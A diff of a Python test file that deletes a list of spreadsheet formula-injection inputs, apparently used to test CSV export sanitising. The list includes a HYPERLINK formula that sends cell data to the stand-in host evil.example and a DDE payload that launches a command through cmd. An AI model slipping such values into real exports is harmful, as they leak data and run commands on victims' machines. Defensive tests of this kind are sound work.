@@ -20,21 +20,6 @@ from tests.api.staff import NOON, PHONE, make, verified
 
 pytestmark = pytest.mark.django_db
 ROOT = Path(__file__).parent.parent
-FORMULAS = [
-    "=1+1",
-    "+1",
-    "-1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    " =1",
-    "＝1",
-    "x,=1",
-    "x;=1",
-    "x, @A1",
-    '=HYPERLINK("http://evil.example?"&A1;"x")',
-    "=cmd|' /C calc'!A0",
-]
 
 
 def run(*arguments: str, **streams: Any) -> str:
